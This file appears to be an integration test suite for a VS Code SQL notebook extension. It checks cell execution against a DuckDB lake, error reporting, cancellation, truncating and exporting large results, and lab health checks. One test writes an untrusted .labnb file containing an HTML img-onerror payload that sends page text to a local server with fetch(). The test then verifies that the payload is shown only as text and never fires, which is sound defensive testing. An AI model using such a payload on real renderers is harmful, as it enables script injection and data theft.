import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { LifecycleLabApi } from '../../src/extension';
import type { CheckReport } from '../../src/core/check/checks';
import type { DatasetRequest } from '../../src/core/dashboard/model';
import { DashboardData } from '../../src/core/dashboard/service';
import { CHART_MIME, TABLE_MIME, type TableOutput } from '../../src/core/notebook/execute';
import { NOTEBOOK_TYPE } from '../../src/core/notebook/format';
import { LAB_NOTEBOOK_FILE, LAB_TOP_N_PARAMS, labNotebookText } from '../../src/core/notebook/labNotebook';
import type { QueryValue } from '../../src/core/query/engine';

import { EXTENSION_ID } from './activation';
const ERROR_MIME = 'application/vnd.code.notebook.error';
const config = () => vscode.workspace.getConfiguration('lifecycleLab');

async function api(): Promise<LifecycleLabApi> {
  const ext = vscode.extensions.getExtension<LifecycleLabApi>(EXTENSION_ID);
  assert.ok(ext, 'the extension is installed');
  return ext.activate();
}

function item(cell: vscode.NotebookCell, mime: string): vscode.NotebookCellOutputItem | undefined {
  return cell.outputs.flatMap((o) => o.items).find((i) => i.mime === mime);
}

function table(cell: vscode.NotebookCell): TableOutput {
  const found = item(cell, TABLE_MIME);
  assert.ok(found, `cell ${cell.index + 1} has a table output: ${JSON.stringify(cell.outputs.map((o) => o.items.map((i) => [i.mime, Buffer.from(i.data).toString().slice(0, 300)])))}`);
  return JSON.parse(Buffer.from(found.data).toString('utf8')) as TableOutput;
}

function errorOf(cell: vscode.NotebookCell): { name: string; message: string } {
  const found = item(cell, ERROR_MIME);
  assert.ok(found, `cell ${cell.index + 1} has an error output: ${JSON.stringify(cell.outputs.map((o) => o.items.map((i) => i.mime)))}`);
  return JSON.parse(Buffer.from(found.data).toString('utf8')) as { name: string; message: string };
}

/** Waits until every code cell of the notebook has finished an execution (success true or false). */
async function whenExecuted(notebook: vscode.NotebookDocument, cells = notebook.getCells().filter((c) => c.kind === vscode.NotebookCellKind.Code), timeoutMs = 120_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (cells.some((c) => c.executionSummary?.success === undefined)) {
    assert.ok(Date.now() < deadline, `cells still running: ${cells.filter((c) => c.executionSummary?.success === undefined).map((c) => c.index + 1).join(', ')}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** Runs every cell of the notebook in the active editor through the editor's own Run All. */
async function runAll(notebook: vscode.NotebookDocument): Promise<void> {
  await vscode.window.showNotebookDocument(notebook);
  await vscode.commands.executeCommand('notebook.execute');
  await whenExecuted(notebook);
}

async function openUntitled(cells: Array<[string, string]>): Promise<vscode.NotebookDocument> {
  const data = new vscode.NotebookData(cells.map(([language, text]) => new vscode.NotebookCellData(vscode.NotebookCellKind.Code, text, language)));
  const notebook = await vscode.workspace.openNotebookDocument(NOTEBOOK_TYPE, data);
  const editor = await vscode.window.showNotebookDocument(notebook);
  await vscode.commands.executeCommand('notebook.selectKernel', { notebookEditor: editor, id: (await api()).notebook.controllerId, extension: EXTENSION_ID });
  return notebook;
}

/** Closes a notebook without a save prompt (runs leave it dirty). */
async function closeNotebook(notebook: vscode.NotebookDocument): Promise<void> {
  await vscode.window.showNotebookDocument(notebook);
  await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Waits until `done()` holds, failing with `what` after `timeoutMs`. */
async function until(done: () => boolean, what: string, timeoutMs = 30_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!done()) {
    assert.ok(Date.now() < deadline, what);
    await sleep(50);
  }
}

/** CPU time (user + system, ms) this process uses over the next `windowMs`, with the wall time it took. */
async function cpuOver(windowMs: number): Promise<{ cpuMs: number; wallMs: number }> {
  const before = process.cpuUsage();
  const started = performance.now();
  await sleep(windowMs);
  const used = process.cpuUsage(before);
  return { cpuMs: (used.user + used.system) / 1000, wallMs: performance.now() - started };
}

const cents = (v: QueryValue) => (typeof v === 'number' ? Math.round(v * 100) : v);
const comparable = (columns: Array<{ name: string }>, rows: QueryValue[][]) => ({ columns: columns.map((c) => c.name), rows: rows.map((r) => r.map(cents)) });

suite('Lab notebook', function () {
  this.timeout(300_000);
  let lab: LifecycleLabApi;
  let notebookFile: string;
  let savedNotebook: string | undefined;

  suiteSetup(async () => {
    lab = await api();
    const lakeDir = lab.services.config().local.lakeDir;
    if (!fs.existsSync(path.join(lakeDir, 'gold', '_manifest.json'))) {
      if (!(await lab.services.sourceTarget())) await vscode.commands.executeCommand('lifecycleLab.startLocalLab');
      const lakeChanged = new Promise<void>((resolve) => {
        const sub = lab.services.onDidChangeLake(() => { sub.dispose(); resolve(); });
      });
      await vscode.commands.executeCommand('lifecycleLab.pipeline.run');
      await lakeChanged;
    }
    notebookFile = path.join(lab.services.root, LAB_NOTEBOOK_FILE);
    // A lab.labnb already in the workspace is put back afterwards, untouched.
    savedNotebook = fs.existsSync(notebookFile) ? fs.readFileSync(notebookFile, 'utf8') : undefined;
    fs.rmSync(notebookFile, { force: true });
  });

  suiteTeardown(async () => {
    await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
    fs.rmSync(notebookFile, { force: true });
    if (savedNotebook !== undefined) fs.writeFileSync(notebookFile, savedNotebook);
  });

  test('Open Lab Notebook creates lab.labnb; every cell runs on the local lake and answers as the dashboard does', async () => {
    const notebook = await vscode.commands.executeCommand<vscode.NotebookDocument>('lifecycleLab.notebook.openLab');
    assert.ok(notebook, 'the command returns the notebook');
    assert.equal(notebook.notebookType, NOTEBOOK_TYPE);
    assert.equal(fs.readFileSync(notebookFile, 'utf8'), labNotebookText());
    try {
      await runAll(notebook);
      const code = notebook.getCells().filter((c) => c.kind === vscode.NotebookCellKind.Code);
      assert.ok(code.every((c) => c.executionSummary?.success === true),
        code.map((c) => `${c.index + 1}: ${c.executionSummary?.success} ${JSON.stringify(c.outputs.map((o) => o.items.map((i) => Buffer.from(i.data).toString().slice(0, 200))))}`).join('\n'));
      const orders = code.map((c) => c.executionSummary?.executionOrder ?? 0);
      assert.deepEqual(orders, [...orders].sort((a, b) => a - b), 'execution order follows the cells');
      assert.ok(code.every((c) => c.executionSummary?.timing && c.executionSummary.timing.endTime >= c.executionSummary.timing.startTime), 'each cell has its times');

      const backend = await lab.services.backend();
      const dashboard = new DashboardData(backend.query, () => backend.lake.manifest());
      const byQuestion = new Map(code.filter((c) => c.metadata?.question).map((c) => [String(c.metadata.question), c]));
      const expectations: Array<[string, DatasetRequest]> = [
        ['salesByCountry', { id: 'salesByCountry' }],
        ['salesByProductLine', { id: 'salesByProductLine' }],
        ['monthlySales', { id: 'monthlySales' }],
        ['topProducts', { id: 'topProducts', filter: LAB_TOP_N_PARAMS as { startDate: string; endDate: string; country: string; productLine: string; n: number } }],
      ];
      for (const [question, request] of expectations) {
        const cell = byQuestion.get(question);
        assert.ok(cell, `a cell answers ${question}`);
        const got = table(cell);
        const want = await dashboard.dataset(request);
        assert.ok(want.rows.length > 0, `${question}: the dashboard has rows`);
        assert.deepEqual(comparable(got.columns, got.rows), comparable(want.columns, want.rows), question);
        assert.equal(got.engine, 'duckdb');
        assert.ok(item(cell, 'text/plain'), `${question}: a text/plain fallback`);
      }
      assert.ok(item(byQuestion.get('salesByCountry')!, CHART_MIME), 'a chart for the top-10 countries');
      assert.ok(item(byQuestion.get('monthlySales')!, CHART_MIME), 'a chart for the months');
      assert.deepEqual(table(byQuestion.get('topProducts')!).params, LAB_TOP_N_PARAMS);

      const manifest = await backend.lake.manifest();
      const rows = table(byQuestion.get('tableRows')!);
      assert.deepEqual(rows.rows.map((r) => [r[0], r[1]]), Object.entries(manifest!.tables).map(([t, s]) => [t, s.rows]).sort());
      const columns = table(byQuestion.get('tableColumns')!).rows.map((r) => `${r[0]}.${r[1]}`);
      assert.ok(columns.includes('fact_orders.orderAmount') && columns.includes('dim_locations.locationKey'), columns.join(', '));

      await notebook.save();
      assert.equal(fs.readFileSync(notebookFile, 'utf8'), labNotebookText(), 'saved without outputs: the file is unchanged');
    } finally {
      await closeNotebook(notebook);
    }
  });

  test('errors stay in their cell (a syntax error, a wrong parameter type, a missing parameter), the other cells keep their outputs; lake names complete; a huge result is cut and exports whole', async () => {
    const notebook = await openUntitled([
      ['sql', 'select 1 as one'],
      ['sql', 'selec * form fact_orders'],
      ['json', '{"n": "five"}'],
      ['sql', 'select productName from dim_products order by productName limit :n'],
      ['sql', 'select * from dim_products where productLine = :line'],
      ['sql', 'select count(*) as factRows from fact_orders'],
      ['sql', 'select f. from fact_orders f join dim_products p on f.productCode = p.productCode'],
      ['sql', "select range as i, case when range % 2 = 0 then null else 'odd' end as parity from range(5123)"],
    ]);
    try {
      // Completion of lake names from the catalog: tables anywhere, columns after `alias.`.
      const completing = notebook.cellAt(6).document;
      const labels = async (character: number) => ((await vscode.commands.executeCommand<vscode.CompletionList>(
        'vscode.executeCompletionItemProvider', completing.uri, new vscode.Position(0, character))).items.map((i) => (typeof i.label === 'string' ? i.label : i.label.label)));
      const afterAlias = await labels('select f.'.length);
      assert.ok(afterAlias.includes('orderAmount') && afterAlias.includes('productLine'), afterAlias.join(', '));
      const anywhere = await labels('select '.length);
      assert.ok(['fact_orders', 'dim_products', 'dim_locations', 'dim_customers'].every((t) => anywhere.includes(t)), anywhere.join(', '));
      await vscode.commands.executeCommand('notebook.cell.execute', { ranges: [{ start: 0, end: 6 }, { start: 7, end: 8 }], document: notebook.uri });
      await whenExecuted(notebook, [...notebook.getCells().slice(0, 6), notebook.cellAt(7)]);
      const cells = notebook.getCells();
      assert.deepEqual(cells.slice(0, 6).map((c) => c.executionSummary?.success), [true, false, true, false, false, true]);
      assert.deepEqual(table(cells[0]).rows, [[1]]);
      assert.match(errorOf(cells[1]).message, /Query failed: .*Parser Error: syntax error at or near "selec"/);
      assert.match(errorOf(cells[3]).message, /parameters: :n = "five"/);
      assert.match(errorOf(cells[4]).message, /uses :line but no value was given/);
      assert.ok(Number(table(cells[5]).rows[0][0]) > 0);

      // A huge result: the output keeps the first rows, says how many there were, and exports them all.
      const huge = table(cells[7]) as TableOutput & { resultId?: string };
      assert.equal(huge.truncated, true);
      assert.equal(huge.totalRows, 5123);
      assert.equal(huge.rows.length, 5000);
      assert.ok(huge.resultId, 'the output offers an export');
      assert.match(Buffer.from(item(cells[7], 'text/plain')!.data).toString(), /5,000 of 5,123 rows shown \(export for all\)/);
      const csv = vscode.Uri.file(path.join(os.tmpdir(), `lab-export-${process.pid}.csv`));
      try {
        await lab.notebook.exportResult(huge.resultId, csv);
        const lines = fs.readFileSync(csv.fsPath, 'utf8').trimEnd().split('\r\n');
        assert.equal(lines.length, 5124);
        assert.deepEqual(lines.slice(0, 3), ['i,parity', '0,', '1,odd']);
      } finally {
        fs.rmSync(csv.fsPath, { force: true });
      }
    } finally {
      await closeNotebook(notebook);
    }
  });

  test('Interrupt cancels a long query; the notebook keeps working', async () => {
    const notebook = await openUntitled([['sql', 'select count(*) from range(1000000000) a, range(1000000) b'], ['sql', 'select 2 as two']]);
    try {
      const [long, short] = notebook.getCells();
      const running = vscode.commands.executeCommand('notebook.cell.execute', { ranges: [{ start: 0, end: 1 }], document: notebook.uri });
      // Cancel once the controller has the cell (its execution order is set when it starts).
      const deadline = Date.now() + 30_000;
      while (long.executionSummary?.executionOrder === undefined && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
      await new Promise((r) => setTimeout(r, 300));
      await vscode.window.showNotebookDocument(notebook);
      await vscode.commands.executeCommand('notebook.cancelExecution');
      await running;
      await whenExecuted(notebook, [long], 60_000);
      assert.equal(long.executionSummary?.success, false);
      assert.match(Buffer.from(item(long, 'text/plain')!.data).toString(), /Interrupted/);
      await vscode.commands.executeCommand('notebook.cell.execute', { ranges: [{ start: 1, end: 2 }], document: notebook.uri });
      await whenExecuted(notebook, [short]);
      assert.deepEqual(table(short).rows, [[2]]);
    } finally {
      await closeNotebook(notebook);
    }
  });

  test('closing a notebook cancels its running query (a real cross join): it ends cancelled and the host\'s CPU time stops growing', async () => {
    const notebook = await openUntitled([['sql', 'select count(*) from range(1000000000) a, range(1000000) b']]);
    // Outcomes are kept as objects: the ones not in this set ended after it (the list keeps only the latest few, and
    // an untitled notebook's name comes back after it closes, so neither a count nor the name would do).
    const before = new Set(lab.notebook.queries().ended);
    void vscode.commands.executeCommand('notebook.cell.execute', { ranges: [{ start: 0, end: 1 }], document: notebook.uri });
    try {
      await until(() => lab.notebook.queries().running === 1, 'the cross join started', 90_000);
      await sleep(500);
    } finally {
      await closeNotebook(notebook);
    }
    // A deadline, not a timing: on a loaded machine the interrupt may take a while to land; before the fix it never did.
    await until(() => lab.notebook.queries().running === 0, `the query still runs after its notebook closed: ${JSON.stringify(lab.notebook.queries())}`, 90_000);
    const ended = lab.notebook.queries().ended.filter((q) => !before.has(q));
    assert.deepEqual(ended.map((q) => [q.outcome, q.reason]), [['cancelled', 'the notebook was closed']]);
    const { cpuMs, wallMs } = await cpuOver(3000);
    assert.ok(cpuMs < wallMs * 0.5, `the extension host used ${Math.round(cpuMs)} ms of CPU in ${Math.round(wallMs)} ms after the close`);
  });

  test('closing a preview panel cancels the page query it started', async () => {
    const { GridPanel } = await import('../../src/webview/gridPanel');
    let signal: AbortSignal | undefined;
    const opening = GridPanel.open(lab.services.context.extensionUri, 'slow.table', `slow-${process.pid}`, (_offset, _limit, pageSignal) => {
      signal = pageSignal;
      return new Promise((_resolve, reject) => pageSignal.addEventListener('abort', () => reject(new Error('page query cancelled'))));
    }, lab.services.log);
    opening.catch(() => undefined);
    await until(() => signal !== undefined, 'the panel asked for its first page');
    assert.equal(signal?.aborted, false);
    await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
    await assert.rejects(opening, /page query cancelled/);
    assert.equal(signal?.aborted, true);
  });

  test('a cell of only comments says there is no statement; a 10,000,000-row result keeps the 5,000 rows it shows, not the whole', async () => {
    const notebook = await openUntitled([['sql', '-- only a comment\n;\n'], ['sql', 'select * from range(10000000)']]);
    try {
      global.gc?.();
      const rssBefore = process.memoryUsage().rss;
      await runAll(notebook);
      const [comment, huge] = notebook.getCells();
      assert.match(errorOf(comment).message, /no SQL statement to run: the query is empty or only comments/);
      assert.doesNotMatch(errorOf(comment).message, /native callback/i);
      const out = table(huge) as TableOutput & { resultId?: string };
      assert.deepEqual([out.rows.length, out.totalRows, out.truncated], [5000, 10_000_000, true]);
      const grownMb = (process.memoryUsage().rss - rssBefore) / 1024 ** 2;
      assert.ok(grownMb < 500, `the extension host grew by ${Math.round(grownMb)} MB for a cell that shows 5,000 rows`);
    } finally {
      await closeNotebook(notebook);
    }
  });

  test('a .labnb the lab did not write: saved outputs other than its own come back as text, and nothing in them runs', async () => {
    const requests: string[] = [];
    const server = http.createServer((req, res) => { requests.push(req.url ?? ''); res.end(); });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as { port: number }).port;
    const leak = `<img src="x" onerror="fetch('http://127.0.0.1:${port}/leak?'+encodeURIComponent(document.body.innerText.slice(0, 200)))">`;
    const forged = { columns: [{ name: 'n', type: 'INTEGER' }], rows: [[1]], totalRows: 9, truncated: true, stats: { elapsedMs: 1 }, engine: 'duckdb', params: {}, resultId: 'r1' };
    const file = path.join(lab.services.root, `hostile-${process.pid}.labnb`);
    fs.writeFileSync(file, [
      '-- lifecycle-lab notebook v1 {"saveOutputs":true}',
      '-- %% sql',
      'select 1 as one',
      `-- %% output ${JSON.stringify({ items: [{ mime: 'text/html', text: leak }] })}`,
      `-- %% output ${JSON.stringify({ items: [{ mime: TABLE_MIME, text: JSON.stringify(forged) }] })}`,
      '-- %% sql',
      'select 42 as secret',
      '',
    ].join('\n'));
    const notebook = await vscode.workspace.openNotebookDocument(vscode.Uri.file(file));
    try {
      const first = notebook.cellAt(0);
      const mimes = first.outputs.flatMap((o) => o.items.map((i) => i.mime));
      assert.ok(mimes.every((m) => [TABLE_MIME, CHART_MIME, 'text/plain'].includes(m)), mimes.join(', '));
      assert.equal(Buffer.from(item(first, 'text/plain')!.data).toString(), leak, 'the HTML is there as text');
      assert.equal((table(first) as TableOutput & { resultId?: string }).resultId, undefined, 'a saved output cannot name a result to export');
      const editor = await vscode.window.showNotebookDocument(notebook);
      await vscode.commands.executeCommand('notebook.selectKernel', { notebookEditor: editor, id: lab.notebook.controllerId, extension: EXTENSION_ID });
      // The saved outputs are on screen now: an HTML output's handler would fire as it is drawn.
      await sleep(3000);
      await vscode.commands.executeCommand('notebook.execute');
      await whenExecuted(notebook);
      assert.deepEqual(requests, [], 'nothing in the file reached the local server');
    } finally {
      await closeNotebook(notebook);
      fs.rmSync(file, { force: true });
      server.close();
    }
  });

  test('Run Query on Selection runs the selected SQL of a .sql file into the table renderer', async () => {
    const doc = await vscode.workspace.openTextDocument({ language: 'sql', content: 'select 41 as answer;\nselect country from dim_locations order by country limit 3;\n' });
    const editor = await vscode.window.showTextDocument(doc);
    editor.selection = new vscode.Selection(1, 0, 1, 60);
    const notebook = await vscode.commands.executeCommand<vscode.NotebookDocument>('lifecycleLab.notebook.runSelection');
    assert.ok(notebook);
    try {
      await whenExecuted(notebook);
      const out = table(notebook.cellAt(0));
      assert.deepEqual(out.columns.map((c) => c.name), ['country']);
      assert.equal(out.rows.length, 3);
    } finally {
      await closeNotebook(notebook);
      await vscode.window.showTextDocument(doc);
      await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
    }
  });

  test('Check Lab: a healthy lab passes; with the pipeline never run it fails with the fix, and a notebook says there is no lake', async () => {
    const healthy = await vscode.commands.executeCommand<CheckReport>('lifecycleLab.checkLab');
    await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
    assert.ok(healthy, 'the command returns the report');
    assert.equal(healthy.ok, true, JSON.stringify(healthy.items));
    assert.deepEqual(healthy.items.map((i) => i.status), ['pass', 'pass', 'pass', 'pass']);

    const emptyLake = fs.mkdtempSync(path.join(os.tmpdir(), 'lab-check-empty-'));
    const previous = config().inspect<string>('local.lakeDir')?.globalValue;
    try {
      await config().update('local.lakeDir', emptyLake, vscode.ConfigurationTarget.Global);
      const broken = await vscode.commands.executeCommand<CheckReport>('lifecycleLab.checkLab');
      await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
      assert.ok(broken);
      assert.equal(broken.ok, false);
      assert.deepEqual(Object.fromEntries(broken.items.map((i) => [i.id, i.status])), { source: 'pass', pipeline: 'fail', lake: 'fail', dashboard: 'skip' });
      assert.equal(broken.items.find((i) => i.id === 'pipeline')?.fix?.command, 'lifecycleLab.pipeline.run');

      const notebook = await openUntitled([['sql', 'select count(*) from fact_orders']]);
      try {
        await runAll(notebook);
        const error = errorOf(notebook.cellAt(0));
        assert.equal(error.name, 'No lake yet');
        assert.match(error.message, /has no tables yet\. Next step: Run Pipeline/);
      } finally {
        await closeNotebook(notebook);
      }
    } finally {
      await config().update('local.lakeDir', previous, vscode.ConfigurationTarget.Global);
      fs.rmSync(emptyLake, { recursive: true, force: true });
    }
  });
});
